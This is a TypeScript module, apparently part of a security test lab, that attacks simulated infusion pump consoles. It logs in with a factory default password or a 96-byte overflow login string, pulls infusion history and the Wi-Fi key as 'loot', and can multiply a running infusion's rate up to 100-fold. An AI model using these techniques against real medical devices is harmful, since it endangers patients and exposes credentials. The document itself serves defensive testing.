import { z } from 'zod';
import { historyEntrySchema, type HistoryEntry } from '../../simulators/pump/store-codec.ts';
import type { Endpoint } from '../engine/lab-under-test.ts';
import type { Action, AttackContext, ClientEvidence } from './action.ts';
import { ConsoleClient } from './clients/console-client.ts';
import { evidence, evidenceCodes, report, statusOf } from './evidence.ts';
import { addressOf, consoleTargets, roundRate } from './targets.ts';

const params = z.strictObject({
  access: z.enum(['factory-login', 'exploit']),
  commands: z
    .array(z.enum(['history', 'config']))
    .max(2)
    .default([]),
  /** Multiplies the running rate with `set-rate`, bypassing the drug library (CVE-2021-33882 pattern). */
  setRateFactor: z.number().positive().max(100).optional(),
});
type Params = z.infer<typeof params>;

/** The login every unit ships with (firmware-catalog.ts, CVE-2017-12724 pattern). */
const factoryLogin = { user: 'biomed', password: 'biomed' };
/**
 * A user field past the legacy parser's 64-byte buffer logs the session in on firmware with the
 * parser flaw (CVE-2017-12718 pattern); fixed firmware answers `ERR input too long`.
 */
const exploitLine = `login ${'A'.repeat(96)} x`;

/**
 * Opens each pump console the attacker can dial, gets a shell by the factory login or the parser
 * overflow, runs the commands (history lines go to loot.data, the Wi-Fi key to loot.secrets) and,
 * with `setRateFactor`, changes the rate of a running infusion from the shell.
 */
export const consoleSession: Action<typeof params> = {
  name: 'console-session',
  summary: 'Gets a shell on each reachable pump console (factory login or exploit) and runs commands.',
  params,
  async run(context, options) {
    const items: ClientEvidence[] = [];
    const targets = consoleTargets(context);
    if (targets.length === 0)
      items.push(evidence('socket', evidenceCodes.noEndpoint, 'no pump console to dial'));
    let shells = 0;
    for (const target of targets) {
      if (await session(context, target, options, items)) shells += 1;
    }
    const how = options.access === 'exploit' ? 'the parser exploit' : 'the factory login';
    const summary = `${shells} of ${targets.length} pump console(s) gave a shell through ${how}.`;
    return report(statusOf(shells > 0), summary, items);
  },
};

/** One console: true when it gave a shell. */
async function session(
  context: AttackContext,
  target: Endpoint,
  options: Params,
  items: ClientEvidence[],
): Promise<boolean> {
  const where = addressOf(target);
  const opened = await ConsoleClient.open(target, context.attacker.address);
  if (!opened.ok) {
    // The console is plain TCP: a connection failure is the console's channel (attribution reads it so).
    items.push(evidence('maintenance', opened.code, opened.line, where));
    return false;
  }
  const { client } = opened;
  try {
    const login = await client.request(
      options.access === 'exploit' ? exploitLine : `login ${factoryLogin.user} ${factoryLogin.password}`,
    );
    if (!login.ok || !login.last.startsWith('OK')) {
      const code = login.ok ? login.last : login.code;
      items.push(evidence('maintenance', code, `no shell: ${code}`, where));
      return false;
    }
    items.push(evidence('maintenance', 'OK', `shell by ${options.access}`, where));
    if (options.access === 'factory-login') context.loot.logins.set(where, { ...factoryLogin });
    for (const command of options.commands) await run(context, client, command, where, items);
    if (options.setRateFactor !== undefined) await setRate(client, options.setRateFactor, where, items);
    return true;
  } finally {
    client.close();
  }
}

async function run(
  context: AttackContext,
  client: ConsoleClient,
  command: 'history' | 'config',
  where: string,
  items: ClientEvidence[],
): Promise<void> {
  const reply = await client.request(command);
  if (!reply.ok || !reply.last.startsWith('OK')) {
    const code = reply.ok ? reply.last : reply.code;
    items.push(evidence('maintenance', code, `${command} failed`, where));
    return;
  }
  const lines = reply.lines.slice(0, -1);
  if (command === 'history') {
    context.loot.data.push(...lines);
    items.push(evidence('maintenance', 'OK', `history disclosed ${lines.length} entries`, where));
    return;
  }
  const psk = lines.find((line) => line.startsWith('wifi.psk='));
  if (psk) context.loot.secrets.push({ kind: 'wifi-psk', from: where });
  context.loot.data.push(lines.filter((line) => line !== psk).join('\n'));
  items.push(evidence('maintenance', 'OK', `config disclosed${psk ? ' the Wi-Fi key' : ''}`, where));
}

/** Reads the running infusion's rate from the history, then sets it `factor` times higher. */
async function setRate(
  client: ConsoleClient,
  factor: number,
  where: string,
  items: ClientEvidence[],
): Promise<void> {
  const history = await client.request('history');
  const running = history.ok ? runningEntry(history.lines.slice(0, -1)) : undefined;
  if (!running) {
    items.push(evidence('maintenance', evidenceCodes.notInfusing, 'no running infusion to change', where));
    return;
  }
  const rate = roundRate(running.rateMlPerHour * factor);
  const reply = await client.request(`set-rate ${rateText(rate)}`);
  const code = reply.ok ? (reply.last.startsWith('OK') ? 'OK' : reply.last) : reply.code;
  items.push(
    evidence('maintenance', code, `set-rate ×${factor} ${code === 'OK' ? 'taken' : 'refused'}`, where),
  );
}

/** The last history entry without an end: the infusion the pump is running or holding. */
function runningEntry(lines: string[]): HistoryEntry | undefined {
  const entries = lines.flatMap((line) => {
    try {
      const parsed = historyEntrySchema.safeParse(JSON.parse(line));
      return parsed.success ? [parsed.data] : [];
    } catch {
      return [];
    }
  });
  return entries.filter((entry) => entry.endedAt === undefined).at(-1);
}

/** The shell takes up to four digits and three decimals (maintenance-shell.ts). */
const rateText = (rate: number): string => rate.toFixed(3).replace(/\.?0+$/, '');
